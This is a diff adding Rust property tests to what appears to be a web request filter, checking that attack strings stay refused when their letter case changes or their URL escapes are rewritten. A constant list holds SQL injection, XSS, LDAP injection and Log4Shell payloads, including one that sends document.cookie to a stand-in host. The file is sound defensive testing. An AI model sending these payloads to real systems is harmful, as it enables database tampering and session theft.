@@ -231,6 +231,71 @@ fn what_editors_and_uploads_write_like_that_is_no_more_than_medium() {
     }
 }
 
+/// Attacks in languages in which letters of either case are the same.
+const CASELESS: &[&str] = &[
+    "1' or '1'='1",
+    "1 union select username, password from users-- -",
+    "x'; drop table orders; --",
+    "1 and sleep(5)",
+    "<script>alert(document.cookie)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "<svg/onload=fetch('//h.example/'+document.cookie)>",
+    "${jndi:ldap://h.example/a}",
+    "*)(uid=*))(|(uid=*",
+];
+
+/// Targets of the own corpus that are refused, and by which rules.
+static CORPUS: LazyLock<Vec<(Vec<u8>, Vec<&'static str>)>> = LazyLock::new(|| {
+    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../score/corpus/own_attacks.jsonl");
+    let text = std::fs::read_to_string(file).unwrap();
+    let mut known = Vec::new();
+    for line in text.lines() {
+        let row: serde_json::Value = serde_json::from_str(line).unwrap();
+        let Some(target) = row["uri"].as_str().filter(|target| target.contains('?')) else { continue };
+        let target = target.as_bytes().to_vec();
+        let inspection = RULESET.inspect_head(&Head { target: &target, ..head() });
+        let judgement = RULESET.decide(inspection);
+        if matches!(judgement.outcome, Outcome::Refuse(_)) {
+            known.push((target, judgement.findings.iter().map(|finding| finding.rule.0).collect()));
+        }
+    }
+    assert!(known.len() > 60, "only {}", known.len());
+    known
+});
+
+/// The same target by RFC 3986 section 6.2.2: what is unreserved in a value of the query is escaped or not, digits of escapes are in any
+/// case.
+fn escaped_again(target: &[u8], turns: &[u8]) -> Vec<u8> {
+    let start = target.iter().position(|byte| *byte == b'?').unwrap();
+    let (mut out, mut turns, mut is_value) = (target[..=start].to_vec(), turns.iter().cycle(), false);
+    let mut digits = 0;
+    for byte in &target[start + 1..] {
+        let turn = *turns.next().unwrap();
+        match byte {
+            b'%' => {
+                digits = 2;
+                out.push(b'%');
+            }
+            byte if digits > 0 => {
+                digits -= 1;
+                out.push(if turn.is_multiple_of(2) {
+                    byte.to_ascii_uppercase()
+                } else {
+                    byte.to_ascii_lowercase()
+                });
+            }
+            byte if is_value && byte.is_ascii_alphanumeric() && turn.is_multiple_of(3) => {
+                out.extend(format!("%{byte:02x}").bytes());
+            }
+            byte => {
+                is_value = if *byte == b'&' { false } else { is_value || *byte == b'=' };
+                out.push(*byte);
+            }
+        }
+    }
+    out
+}
+
 /// Of which escapes and escapes of escapes are made.
 const PIECES: &[&[u8]] = &[
     b"%25",
@@ -273,6 +338,33 @@ proptest! {
         }
         let (findings, refused, _) = judged(&value);
         prop_assert!(refused, "{attack} as {ways:?}: {}: {findings:?}", value.escape_ascii());
+    }
+
+    #[test]
+    fn an_attack_in_a_language_without_case_keeps_its_verdict_in_any_case(
+        attack in select(CASELESS),
+        flips in proptest::collection::vec(any::<bool>(), 80),
+    ) {
+        let value: String = attack
+            .chars()
+            .zip(flips.iter().cycle())
+            .map(|(char, flip)| if *flip { char.to_ascii_uppercase() } else { char.to_ascii_lowercase() })
+            .collect();
+        let (findings, refused, _) = judged(value.as_bytes());
+        prop_assert!(refused, "{value}: {findings:?}");
+    }
+
+    #[test]
+    fn an_attack_of_the_own_corpus_keeps_its_verdict_however_its_target_is_escaped(
+        chosen in any::<Index>(),
+        turns in proptest::collection::vec(any::<u8>(), 64),
+    ) {
+        let (target, rules) = &CORPUS[chosen.index(CORPUS.len())];
+        let written = escaped_again(target, &turns);
+        let head = Head { target: &written, ..head() };
+        let inspection = RULESET.inspect_head(&head);
+        let refused = matches!(RULESET.decide(inspection).outcome, Outcome::Refuse(_));
+        prop_assert!(refused, "{} for {rules:?}", written.escape_ascii());
     }
 
     #[test]
